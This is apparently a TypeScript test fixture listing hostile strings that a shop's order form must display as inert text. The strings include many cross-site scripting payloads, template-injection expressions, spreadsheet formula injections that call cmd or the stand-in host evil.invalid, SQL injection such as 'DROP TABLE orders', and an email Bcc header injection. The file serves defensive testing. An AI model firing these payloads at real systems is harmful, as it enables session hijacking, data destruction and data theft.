/**
 * Texts that someone may type into a shop's order form to attack whoever reads them later. `canary()` is what each tries
 * to reach, `https://evil.invalid/` where it tries to go. All of them are to be shown as the text that they are.
 */
const canary = 'canary()'
const evil = 'https://evil.invalid/x'

const scripts = [
  `<script>${canary}</script>`,
  `<ScRiPt src=${evil}></sCrIpT>`,
  `<script>${canary}//`,
  `<scr<script>ipt>${canary}</scr</script>ipt>`,
  `</script><script>${canary}</script>`,
  `<script type=module>import('${evil}')</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}>"></noscript>`,
]
const handlers = [
  `<img src=x onerror=${canary}>`,
  `<img src=x onerror="${canary}" id=hostile>`,
  `<IMG """><SCRIPT>${canary}</SCRIPT>">`,
  `<body onload=${canary}>`,
  `<div onmouseover="${canary}" style="position:fixed;inset:0">x</div>`,
  `<input autofocus onfocus=${canary}>`,
  `<details open ontoggle=${canary}>`,
  `<video><source onerror=${canary}></video>`,
  `<marquee onstart=${canary}>`,
  `<select onchange=${canary}><option>1</select>`,
  `<a href=# onclick=${canary}>ここを押す</a>`,
  `<p onpointerenter=${canary} onanimationstart=${canary} style=animation-name:x>`,
]
const vectors = [
  `<svg onload=${canary}>`,
  `<svg><script>${canary}</script></svg>`,
  `<svg><animate onbegin=${canary} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${canary}'/>#x"/></svg>`,
  `<math><mtext></p><img src=x onerror=${canary}></mtext></math>`,
  `<svg><foreignObject><iframe src=javascript:${canary}></foreignObject></svg>`,
]
const addresses = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}//https://example.jp/`,
  `java\tscript:${canary}`,
  `<a href="javascript:${canary}" id=hostile>配送状況</a>`,
  `<iframe src="javascript:${canary}"></iframe>`,
  `<iframe srcdoc="<script>parent.${canary}</script>"></iframe>`,
  `data:text/html,<script>opener.${canary}</script>`,
  `<object data="${evil}"></object><embed src="${evil}">`,
  `<form action="${evil}"><button>登録する</button></form>`,
  `<base href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<link rel=stylesheet href="${evil}">`,
]
const templates = [
  `{{constructor.constructor('${canary}')()}}`,
  `{{ $el.ownerDocument.defaultView.${canary} }}`,
  `{{_openBlock.constructor('${canary}')()}}`,
  '{{注文番号}}{{お支払い合計}}',
  `\${${canary}}`,
  `<%= ${canary} %>`,
  `#{${canary}}`,
  `[[${canary}]]`,
  `<div v-html="'<img src=x onerror=${canary}>'" :title="${canary}" @click="${canary}">`,
  '__proto__',
  'constructor',
  '[object Object]',
]
const attributes = [
  `" onmouseover="${canary}`,
  `' onfocus='${canary}' autofocus='`,
  `"><img src=x onerror=${canary}>`,
  `'><svg onload=${canary}>`,
  `\`><img src=x onerror=${canary}>`,
  `--><img src=x onerror=${canary}><!--`,
  `]]><img src=x onerror=${canary}>`,
  `</textarea><img src=x onerror=${canary}>`,
  `</title></style><img src=x onerror=${canary}>`,
  `</td></tr></table><img src=x onerror=${canary}>`,
  `\\"+${canary}+\\"`,
  `';${canary};'`,
  '<!--',
]
const encodings = [
  `&lt;script&gt;${canary}&lt;/script&gt;`,
  `&#60;img src=x onerror=${canary}&#62;`,
  `\\u003cimg src=x onerror=${canary}\\u003e`,
  `%3Cscript%3E${canary}%3C/script%3E`,
  `＜script＞${canary}＜/script＞`,
  `+ADw-script+AD4-${canary}+ADw-/script+AD4-`,
  `<img/src=x/onerror=\u00a0${canary}>`,
  `<i\u0008mg src=x onerror=${canary}>`,
  `<img src=x\u2028onerror=${canary}>`,
  `<\u200bscript>${canary}</script>`,
  '&nbsp;&lt;b&gt;&copy;',
]
const formulas = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|a!A0',
  '@SUM(1+1)*cmd|a!A0',
  `=HYPERLINK("${evil}","請求書")`,
  `=IMPORTXML("${evil}","//a")`,
  '\t=1+1',
]
const others = [
  '\u202e大阪府\u202c\u2067逆\u2069',
  `[請求書](javascript:${canary})`,
  `![x](${evil})`,
  `<style>*{display:none}@import '${evil}'</style>`,
  'expression(canary())；background:url(https://evil.invalid/x)',
  "Robert'); DROP TABLE orders;--",
  "%' OR '1'='1",
  '*"NEAR(a b)"* AND -x',
  '件名\r\nBcc: evil@evil.invalid',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '👩‍👩‍👧‍👦🏳️‍🌈﷽',
  `<img src=x onerror=${canary}>`.repeat(120),
  'あ'.repeat(1_500),
  `${'<b>'.repeat(500)}${canary}`,
]

/** Every text. None holds a NUL: a file with one is no text and is refused as a whole record. */
export const hostileTexts: readonly string[] = [
  ...[scripts, handlers, vectors, addresses, templates, attributes, encodings, formulas, others].flat(),
]
